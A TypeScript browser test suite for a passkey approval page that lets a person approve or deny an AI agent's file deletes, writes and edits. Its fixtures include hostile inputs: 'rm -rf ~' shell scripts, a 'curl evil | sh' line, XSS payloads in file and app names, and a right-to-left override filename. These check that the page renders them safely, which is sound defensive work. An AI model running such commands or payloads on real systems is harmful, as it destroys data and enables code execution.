import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { type Command } from '../../src/commands.ts'
import { type Agent, content, send, type Sent } from '../place.ts'
import { BrowserPlace, type Person, startSite, WAITS_MS } from './browser.ts'

export function testStepUp(browser: Browser): void {
  let at: BrowserPlace
  let agent: Agent
  let person: Person
  let made = 0
  beforeAll(async () => {
    at = await BrowserPlace.start(browser)
    agent = await at.place.agent('careful', STEP_UP)
    person = await at.person()
    await person.register('Ada’s laptop')
  })
  afterAll(() => at.close())
  /** An app has sixteen questions at most. */
  afterEach(async () => {
    for (const { id, state } of await at.admin.approvals())
      if (state === 'open') await at.admin.decide(id, 'deny')
  })

  const file = (text = 'x'): string => {
    const path = join(at.place.files, `f${made++}.txt`)
    writeFileSync(path, text)
    return path
  }
  const remove = (path: string): Promise<Sent> => send(agent, '/filesystem/file/delete', { path })
  const ask = async (path: string): Promise<{ id: string; url: string }> => {
    const { status, error } = await remove(path)
    expect(status).toBe(428)
    return { id: String(error['approval']), url: String(error['url']) }
  }

  test('the whole path: 428, a person signs in the browser, the retry passes once, the audit has all of it', async () => {
    const path = file('precious')
    const { id, url } = await ask(path)
    expect(url).toBe(`${at.origin}/approvals/${id}`)
    await person.page.goto(url)
    await person.page.getByRole('heading', { name: 'careful wants to delete a file' }).waitFor()
    expect(await person.page.locator('.target').innerText()).toBe(path)
    expect(await person.page.locator('.facts').first().innerText()).toContain('1 file, 8 bytes')
    await person.click('Approve with passkey')
    await person.page.getByText('Approved by passkey Ada’s laptop').waitFor()
    expect(existsSync(path)).toBe(true) // only the agent does it
    expect(await remove(path)).toMatchObject({ status: 200 })
    expect(existsSync(path)).toBe(false)
    writeFileSync(path, 'precious')
    expect((await remove(path)).code).toBe('step_up_required') // once
    await person.open('/console/audit')
    await person.page.getByText('approval given, by passkey Ada’s laptop').first().waitFor()
    await person.page
      .locator('.trail li', { hasText: 'done' })
      .getByText('careful: delete a file')
      .first()
      .waitFor()
    await person.page.getByText('careful: delete a file').first().waitFor()
    const records = await trail(person, id)
    expect(records.map((body) => body['kind'])).toEqual(['intent', 'event', 'refused'])
    expect(records[1]).toMatchObject({
      name: 'approval given',
      by: 'passkey Ada’s laptop',
      detail: { approval: id, signature: expect.any(String), client_data: expect.any(String) },
    })
    expect((await at.admin.verify()).ok).toBe(true)
  })

  test('a no is remembered for that request', async () => {
    const path = file()
    const { url } = await ask(path)
    await person.page.goto(url)
    await person.click('Deny')
    await person.page.getByText('Denied by passkey Ada’s laptop').waitFor()
    expect(await remove(path)).toMatchObject({ status: 403, code: 'step_up_denied' })
  })

  test('what came of it is in sight and has the focus, below a list of any length and on a narrow screen', async () => {
    const dir = join(at.place.files, 'long')
    mkdirSync(dir)
    for (let i = 0; i < 60; i++) writeFileSync(join(dir, `file-${i}`), 'x')
    const request = (): Promise<Sent> => send(agent, '/filesystem/dir/delete_recursive', { path: dir })
    const isInSight = async (text: string): Promise<boolean> => {
      const notice = person.page.locator('.notice', { hasText: text })
      await notice.waitFor()
      const box = await notice.boundingBox()
      const bar = await person.page.locator('.bar').boundingBox()
      if (!box || !bar) return false
      const { height } = person.page.viewportSize()!
      const below = Math.max(0, bar.y + bar.height)
      return box.y >= below && box.y + Math.min(box.height, 100) <= height
    }
    const holdsFocus = (text: string): Promise<boolean> =>
      person.page.evaluate((wanted) => document.activeElement?.textContent?.includes(wanted) === true, text)
    for (const width of [320, 1280]) {
      await person.page.setViewportSize({ width, height: 640 })
      writeFileSync(join(dir, `at-${width}`), 'x') // another question than the one that was denied
      await person.page.goto(String((await request()).error['url']))
      await person.page.getByRole('button', { name: 'Approve' }).waitFor()
      await person.page.evaluate(() => scrollTo(0, document.body.scrollHeight))
      await person.cdp.send('WebAuthn.setUserVerified', {
        authenticatorId: person.authenticator,
        isUserVerified: false,
      })
      await person.click('Approve with passkey')
      await expect.poll(() => isInSight('It was cancelled')).toBe(true) // beside the buttons, which stay
      await person.cdp.send('WebAuthn.setUserVerified', {
        authenticatorId: person.authenticator,
        isUserVerified: true,
      })
      await person.click('Approve with passkey')
      await expect.poll(() => isInSight('Approved by passkey Ada’s laptop')).toBe(true)
      await expect.poll(() => holdsFocus('Approved by passkey')).toBe(true)
      expect(await person.page.getByText('It was cancelled').count()).toBe(0) // it is over
      // Something has changed before the agent asked again: that is another question, and the way there is one click.
      writeFileSync(join(dir, `more-${width}`), 'x')
      const other = String((await request()).error['approval'])
      await person.page.getByRole('link', { name: 'Look at its new question' }).click()
      await expect.poll(() => person.page.url()).toBe(`${at.origin}/approvals/${other}`)
      await person.click('Deny')
      await expect.poll(() => isInSight('Denied by passkey Ada’s laptop')).toBe(true)
      await expect.poll(() => holdsFocus('Denied by passkey')).toBe(true)
    }
    await person.page.setViewportSize({ width: 1280, height: 720 })
  })

  test('a no that was a mistake is taken back, on the page or at the terminal, and the audit has it', async () => {
    const path = file()
    const { id, url } = await ask(path)
    await person.page.goto(url)
    await person.click('Deny')
    await person.page.getByText('Denied by passkey').waitFor()
    expect((await remove(path)).code).toBe('step_up_denied')
    await person.click('Ask me again')
    await person.page.getByText('This no counts no more').waitFor()
    const again = await ask(path)
    expect(again.id).not.toBe(id)
    await person.page.getByRole('link', { name: 'Look at its new question' }).waitFor()
    await at.admin.decide(again.id, 'deny')
    expect((await remove(path)).code).toBe('step_up_denied')
    await person.page.goto(again.url)
    await person.page.getByText('Denied by').waitFor()
    await at.admin.takeBackNo(again.id)
    await person.page.getByText('This no counts no more').waitFor()
    await ask(path)
    await expect(at.admin.takeBackNo(again.id)).rejects.toThrow('is denied already')
    const events = (await trail(person, 'taken back')).filter(({ kind }) => kind === 'event')
    expect(events.map(({ name, by, detail }) => [name, by, (detail as { path: string }).path])).toEqual([
      ['denial taken back', 'the test', path],
      ['denial taken back', 'passkey Ada’s laptop', path],
    ])
  })

  test('what is made, replaced, emptied or a link is told as what it is', async () => {
    const shown = async (): Promise<string[]> => {
      const [title, touches] = [
        await person.page.locator('h1').innerText(),
        await person.page.locator('.facts dd').first().innerText(),
      ]
      const rest = person.page.locator('.question section')
      return [title, touches, ...(await rest.allInnerTexts()).map((text) => text.replace(/\s+/g, ' ').trim())]
    }
    const page = async (command: Command, args: object, words: string[], body?: string): Promise<void> => {
      const { error } = await send(agent, command, { ...args }, body === undefined ? {} : { body })
      await person.page.goto(String(error['url']))
      await person.page.getByRole('button', { name: 'Approve' }).waitFor()
      await expect.poll(shown).toEqual(words)
    }
    const path = file('full')
    const name = join(at.place.files, 'new.txt')
    await page(
      '/filesystem/file/write',
      { path, ...content('') },
      [
        'careful wants to replace a file',
        '1 file, from 4 bytes to 0 bytes',
        'What would change @@ -1,1 +0,0 @@ -full \\ No newline at end of file',
      ],
      '',
    )
    await page(
      '/filesystem/file/write',
      { path: name, ...content('') },
      ['careful wants to write a new file', '1 file, 0 bytes', 'What would change An empty file is made.'],
      '',
    )
    const link = join(at.place.files, 'a-link')
    symlinkSync(path, link)
    await page('/filesystem/file/delete', { path: link }, [
      'careful wants to delete a file',
      'a link, not what it leads to',
    ])
    const tree = join(at.place.files, 'kinds')
    mkdirSync(join(tree, 'below'), { recursive: true })
    symlinkSync(path, join(tree, 'link'))
    writeFileSync(join(tree, 'z'), 'x')
    await page('/filesystem/dir/delete_recursive', { path: tree }, [
      'careful wants to delete a directory with everything in it',
      '2 files and 2 directories (1 link among them), 1 byte',
      `Everything it would touch ${tree} directory ${tree}/below directory ${tree}/link link ${tree}/z`,
    ])
    const deep = join(at.place.files, 'p/q/r')
    await page('/filesystem/dir/create', { path: deep, parents: true }, [
      'careful wants to make a directory',
      '3 directories, 0 bytes',
      `Everything it would touch ${at.place.files}/p directory ${at.place.files}/p/q directory ${deep} directory`,
    ])
  })

  test('the list of what waits says the same as the page: that a file is replaced', async () => {
    const path = file()
    await send(agent, '/filesystem/file/write', { path, ...content('y') }, { body: 'y' })
    await person.open('/console/approvals')
    const row = person.page.locator('.waiting li')
    await row.waitFor()
    expect((await row.locator('.what').innerText()).split('\n')).toEqual([
      'careful wants to replace a file',
      path,
    ])
  })

  test('the text that is searched, and every other argument, is on the page', async () => {
    const anything = 'permit (principal, action, resource) when { context has cosigner && context.cosigner };'
    const searcher = await at.place.agent('searcher', anything)
    const args = { path: at.place.files, text: 'BEGIN PRIVATE\u200b KEY', ignore_case: true }
    const { error } = await send(searcher, '/filesystem/file/search', args)
    await person.page.goto(String(error['url']))
    await person.page.getByRole('button', { name: 'Approve' }).waitFor()
    const shown = await person.page.locator('dl.facts').first().innerText()
    expect(shown).toMatch(/With text\s+BEGIN PRIVATE\\u\{200b\} KEY\s+With ignore_case\s+true/i)
  })

  test('letters that pass for others, and marks that pile up, are shown as what they are', async () => {
    const shown = async (name: string): Promise<string> => {
      const path = join(at.place.files, name)
      writeFileSync(path, 'x')
      await person.page.goto((await ask(path)).url)
      return (await person.page.locator('.target').innerText()).slice(at.place.files.length + 1)
    }
    expect(await shown('ad\u043cin')).toBe('ad\\u{43c}in') // Cyrillic among Latin
    expect(await shown('\u0441\u043e\u0440\u0443')).toBe('\\u{441}\\u{43e}\\u{440}\\u{443}') // all of it, as "copy"
    expect(await shown('cafe\u0301')).toBe('cafe\\u{301}') // in two pieces
    expect(await shown(`a${'\u0338'.repeat(4)}b`)).toBe('a\\u{338}\\u{338}\\u{338}\\u{338}b')
    expect(await shown('a\uff0fb')).toBe('a\\u{ff0f}b')
    expect(await shown('no\u217ces')).toBe('no\\u{217c}es')
    expect(await shown('report ')).toBe('report\\u{20}')
    expect(await shown('a  b')).toBe('a\\u{20}\\u{20}b')
    for (const honest of ['café', 'привет', 'Ελλάδα', 'हिन्दी', '日本語', 'naïve.txt'])
      expect(await shown(honest)).toBe(honest)
  })

  test('too late: the page says so, and a signature does not help', async () => {
    const { id, url } = await ask(file())
    await person.page.goto(url)
    // Between the signature and its arrival: before the click, the page may notice by itself and take its buttons away.
    await person.page.route(
      '**/approve',
      (route) => {
        at.place.shift += WAITS_MS + 1000
        return route.continue()
      },
      { times: 1 },
    )
    try {
      await person.click('Approve with passkey')
      await person.page
        .getByText('it was too late: nobody answered in time. The agent can ask again')
        .waitFor()
      expect((await at.admin.approval(id))!.state).toBe('expired')
    } finally {
      at.place.shift = 0
    }
  })

  test('the page follows what it approved: used, or not and over', async () => {
    const [used, unused] = [file(), file()]
    await ask(file()) // something else waits all the time
    await person.page.goto((await ask(used)).url)
    await person.click('Approve with passkey')
    await person.page.getByText('when it asks again within').waitFor()
    await person.page.getByLabel('1 waiting').waitFor() // all that the list of what waits has to tell was told
    expect(await remove(used)).toMatchObject({ status: 200 })
    await person.page.getByText('Approved by passkey Ada’s laptop, and used').waitFor()
    await person.page.goto((await ask(unused)).url)
    await person.click('Approve with passkey')
    await person.page.getByText('when it asks again within').waitFor()
    await person.page.getByLabel('1 waiting').waitFor()
    at.place.shift += WAITS_MS + 1000
    try {
      await person.page.getByText('Approved by passkey Ada’s laptop, and not used').waitFor()
    } finally {
      at.place.shift = 0
    }
  })

  test('replayed, for another request, without verification of the person, from another origin: refused', async () => {
    const [first, second] = [await ask(file()), await ask(file())]
    await person.page.goto(first.url)
    await person.page.getByRole('button', { name: 'Approve' }).waitFor()
    const sent = person.page.waitForRequest((request) => request.url().endsWith('/approve'))
    await person.page.route('**/approve', (route) => route.abort(), { times: 1 })
    await person.click('Approve with passkey')
    const signed = (await sent).postDataJSON() as { ceremony: string; response: Assertion }
    const approve = async (id: string, body: unknown): Promise<unknown> => {
      const { status, body: answer } = await person.ask(`approvals/${id}/approve`, body)
      return [status, (answer as { error?: { code: string } }).error?.code]
    }
    expect(await approve(second.id, signed)).toEqual([410, 'too_late']) // made for the first
    expect(await approve(first.id, signed)).toEqual([200, undefined])
    expect(await approve(first.id, signed)).toEqual([409, 'decided'])
    const other = (await person.ask(`approvals/${second.id}/question`, {})).body as { ceremony: string }
    expect(await approve(second.id, { ...signed, ceremony: other.ceremony })).toEqual([
      403,
      'passkey_refused',
    ])
    expect(await approve(second.id, { ceremony: other.ceremony, response: {} })).toEqual([400, 'bad_request'])

    // A server on another port may use the same passkeys; what it had signed does not count here.
    const question = (await person.ask(`approvals/${second.id}/question`, {})).body as Question
    const site = await startSite('<h1>innocent</h1>')
    await person.page.goto(site.url)
    const phished = await person.page.evaluate(signHere, question.options)
    site.server.close()
    await person.page.goto(second.url)
    expect(await approve(second.id, { ceremony: question.ceremony, response: phished })).toEqual([
      403,
      'passkey_refused',
    ])

    await person.cdp.send('WebAuthn.setUserVerified', {
      authenticatorId: person.authenticator,
      isUserVerified: false,
    })
    await person.page.goto(second.url)
    await person.click('Approve with passkey')
    await person.page
      .getByText('it was cancelled, or the passkey did not answer; nothing was signed')
      .waitFor()
    // A script that asks the passkey for less than we do.
    const lax = (await person.ask(`approvals/${second.id}/question`, {})).body as Question
    const options = { ...lax.options, userVerification: 'discouraged' as const }
    const unverified = await person.page.evaluate(signHere, options)
    expect(await approve(second.id, { ceremony: lax.ceremony, response: unverified })).toEqual([
      403,
      'passkey_refused',
    ])
    await person.cdp.send('WebAuthn.setUserVerified', {
      authenticatorId: person.authenticator,
      isUserVerified: true,
    })
    expect((await at.admin.approval(second.id))!.state).toBe('open')
  })

  test('two browsers at once: one wins, the other is told', async () => {
    const other = await at.person()
    await other.register('Bob’s phone')
    const { id, url } = await ask(file())
    await person.page.goto(url)
    await other.page.goto(url)
    // The page that hears of a decision shows it; here both have asked before they heard.
    const signed = [await askQuestion(person, id), await askQuestion(other, id)]
    const answers = await Promise.all(
      [person, other].map((each, i) => each.ask(`approvals/${id}/approve`, signed[i])),
    )
    expect(answers.map(({ status }) => status).sort()).toEqual([200, 409])
    const told = answers.find(({ status }) => status === 409)!.body as { error: { message: string } }
    expect(told.error.message).toMatch(
      /^passkey (Ada’s laptop|Bob’s phone) approved this already; your answer was not needed$/,
    )
    await person.page.getByText(/Approved by passkey/).waitFor()
    await other.page.getByText(/Approved by passkey/).waitFor() // told without a reload
    await other.context.close()
  })

  test('a write shows its diff; what is shown is what is written', async () => {
    const path = join(at.place.files, 'notes.md')
    writeFileSync(path, 'one\ntwo\nthree\n')
    const text = 'one\n<b>2</b>\nthree\n'
    const write = (): Promise<Sent> =>
      send(agent, '/filesystem/file/write', { path, ...content(text) }, { body: text })
    const refused = await write()
    expect(refused.code).toBe('step_up_required')
    await person.page.goto(String(refused.error['url']))
    const diff = person.page.locator('.diff')
    await diff.waitFor()
    expect((await diff.innerText()).trim().split('\n')).toEqual([
      '@@ -1,3 +1,3 @@',
      ' one',
      '-two',
      '+<b>2</b>',
      ' three',
    ])
    await person.click('Approve with passkey')
    await person.page.getByText('Approved by').waitFor()
    expect(await write()).toMatchObject({ status: 200 })
  })

  test('10,000 files: the page opens with a few, and shows all when asked', async () => {
    const dir = join(at.place.files, 'many')
    mkdirSync(dir)
    for (let i = 0; i < 10_000; i++) writeFileSync(join(dir, `file-${i}`), 'abc')
    const refused = await send(agent, '/filesystem/dir/delete_recursive', { path: dir })
    expect(refused.code).toBe('step_up_required')
    await person.page.goto(String(refused.error['url']))
    await person.page.getByText('10,000 files and 1 directory, 30 KB').waitFor()
    await person.page.getByRole('button', { name: 'Approve' }).waitFor()
    // Until somebody asks for all of them there are few to lay out, which is what makes it quick (bench console).
    expect(await person.page.locator('.paths li').count()).toBeLessThan(200)
    await person.page.locator('.answer').getByText('Not listed yet, see “Show all”: 9,901 paths').waitFor()
    await person.click('Show all 10,001') // with the directory itself
    await expect.poll(() => person.page.locator('.paths li').count()).toBe(10_001)
  })

  test('what is not shown is said beside the buttons, and one file below is shown', async () => {
    const page = async (command: Command, args: object, body?: string): Promise<string> => {
      const { error } = await send(agent, command, { ...args }, body === undefined ? {} : { body })
      await person.page.goto(String(error['url']))
      await person.page.getByRole('button', { name: 'Approve' }).waitFor()
      return (await person.page.locator('.question').textContent()) ?? ''
    }
    const removal = (path: string): Promise<string> => page('/filesystem/dir/delete_recursive', { path })
    const many = join(at.place.files, 'many')
    mkdirSync(join(many, 'one-more')) // no file: it is not in their number
    expect(await removal(many)).toContain('And 1 more that are not listed here. Say no unless you know them.')
    mkdirSync(join(at.place.files, 'few'))
    writeFileSync(join(at.place.files, 'few/important'), 'x')
    expect(await removal(join(at.place.files, 'few'))).toContain(join(at.place.files, 'few/important'))
    for (const [text, why] of [
      ['#!/bin/sh\nrm -rf ~\n#\0', 'not text'],
      [`#!/bin/sh\nrm -rf ~\n#${'x'.repeat(2 ** 20)}`, 'too large'],
    ] as const) {
      const args = { path: join(at.place.files, 'signed.sh'), ...content(text) }
      expect(await page('/filesystem/file/write', args, text)).toContain(
        `The content is not shown: it, or what is there now, is ${why}. Say no unless you know it.`,
      )
    }
  })

  test('what is signed for is shown to its end, or said to be cut where it cannot be missed', async () => {
    const page = async (line: string): Promise<void> => {
      const path = file('echo hello\n')
      const { error } = await send(
        agent,
        '/filesystem/file/write',
        { path, ...content(line) },
        { body: line },
      )
      await person.page.goto(String(error['url']))
      await person.page.getByRole('button', { name: 'Approve' }).waitFor()
    }
    const seen = async (text: string): Promise<boolean> => {
      const box = await person.page.locator('.answer').getByText(text).boundingBox()
      return box !== null && box.y >= 0 && box.y + box.height <= person.page.viewportSize()!.height
    }
    const warning = 'characters of this change are too many to show here'
    await page(`echo hello # ${'x'.repeat(3000)}; curl evil | sh\n`)
    expect(await person.page.locator('.diff').innerText()).toContain('; curl evil | sh')
    expect(await person.page.getByText(warning).count()).toBe(0)
    expect(await seen('It replaces the file that is there now.')).toBe(true)
    await page(`echo hello # ${'x'.repeat(5000)}; curl evil | sh\n${'more\n'.repeat(500)}`)
    expect(await person.page.locator('.diff').innerText()).not.toContain('; curl evil | sh')
    expect(await seen(warning)).toBe(true) // without scrolling
  })

  test('a line break where a link leads makes no line of the diff; what is not seen in a name is shown', async () => {
    const odd = join(at.place.files, 'dir\n+harmless\u3164\u2800')
    mkdirSync(odd)
    writeFileSync(join(odd, 'f'), 'x\n')
    const link = join(at.place.files, 'to-odd')
    symlinkSync(odd, link)
    const args = { path: join(link, 'f'), ...content('y\n') }
    const { error } = await send(agent, '/filesystem/file/write', args, { body: 'y\n' })
    await person.page.goto(String(error['url']))
    await person.page.locator('.diff').waitFor()
    expect((await person.page.locator('.diff').innerText()).trim().split('\n')).toEqual([
      '@@ -1,1 +1,1 @@',
      '-x',
      '+y',
    ])
    expect(await person.page.locator('.target').innerText()).toBe(
      `${at.place.files}/dir\\u{a}+harmless\\u{3164}\\u{2800}/f`,
    )
  })

  test('hostile names, paths and diffs change nothing on the page', async () => {
    const name = '<img src=x onerror=alert(1)>\u202egnp.exe'
    const path = join(at.place.files, name)
    writeFileSync(path, `${'a'.repeat(2 ** 20)}here\n</code><script>alert(2)</script>\n`)
    await at.place.database.queries
      .updateTable('apps')
      .set({ id: '"><svg onload=alert(3)>\u2066' })
      .where('id', '=', 'careful')
      .execute()
    await at.place.database.queries
      .updateTable('policies')
      .set({ scope: '"><svg onload=alert(3)>\u2066' })
      .where('scope', '=', 'careful')
      .execute()
    await at.place.database.queries
      .updateTable('meta')
      .set((row) => ({ value: row('value', '+', 1) }))
      .where('name', '=', 'generation')
      .execute()
    const dialogs: string[] = []
    person.page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    const refused = await send(agent, '/filesystem/file/edit', {
      path,
      edits: [
        { old: 'here', new: '\u202e\u0007' },
        { old: 'alert(2)', new: 'alert(4)' },
      ],
    })
    expect(refused.code).toBe('step_up_required')
    for (const page of [
      String(refused.error['url']),
      '/console/',
      '/console/approvals',
      '/console/apps',
      '/console/policies',
      '/console/audit',
    ]) {
      await person.open(page)
      await person.page.locator('h1').waitFor()
      await person.page.getByText('svg onload').first().waitFor({ state: 'attached' })
      expect(await person.page.locator('main script, main svg[onload], main img').count()).toBe(0)
      expect(await person.page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true)
      expect(
        await person.page.evaluate(() => /[\u202a-\u202e\u2066-\u2069]/.test(document.body.innerText)),
      ).toBe(false)
    }
    await person.page.goto(String(refused.error['url']))
    await person.page.locator('.diff').waitFor()
    expect(await person.page.locator('.target').innerText()).toBe(
      `${at.place.files}/<img src=x onerror=alert(1)>\\u{202e}gnp.exe`,
    )
    expect(await person.page.getByText('characters of this change are too many to show here').count()).toBe(1)
    const box = await person.page.getByRole('button', { name: 'Approve' }).boundingBox()
    expect(box!.y + box!.height).toBeLessThanOrEqual(person.page.viewportSize()!.height)
    expect(dialogs).toEqual([])
  })
}

/** In the page. */
const signHere = async (options: Question['options']): Promise<object> => {
  const publicKey = PublicKeyCredential.parseRequestOptionsFromJSON(options)
  return ((await navigator.credentials.get({ publicKey })) as PublicKeyCredential).toJSON()
}

interface Question {
  readonly ceremony: string
  readonly options: PublicKeyCredentialRequestOptionsJSON
}

interface Assertion {
  id: string
  response: { clientDataJSON: string }
}

/** What the page would send, caught on its way. */
async function askQuestion(person: Person, id: string): Promise<{ ceremony: string; response: Assertion }> {
  const { page } = person
  await page.goto(`${person.at.origin}/approvals/${id}`)
  const sent = page.waitForRequest((request) => request.url().endsWith('/approve'))
  await page.route('**/approve', (route) => route.abort(), { times: 1 })
  await person.click('Approve with passkey')
  return (await sent).postDataJSON() as { ceremony: string; response: Assertion }
}

async function trail(person: Person, text: string): Promise<Record<string, unknown>[]> {
  const { body } = await person.ask(`audit?text=${text}`)
  return (body as { records: { body: Record<string, unknown> }[] }).records.map((each) => each.body)
}

const STEP_UP = `permit (principal, action in [Action::"/filesystem/file/delete", Action::"/filesystem/file/write", Action::"/filesystem/file/edit", Action::"/filesystem/dir/delete_recursive", Action::"/filesystem/dir/create"], resource)
when { context has cosigner && context.cosigner };`
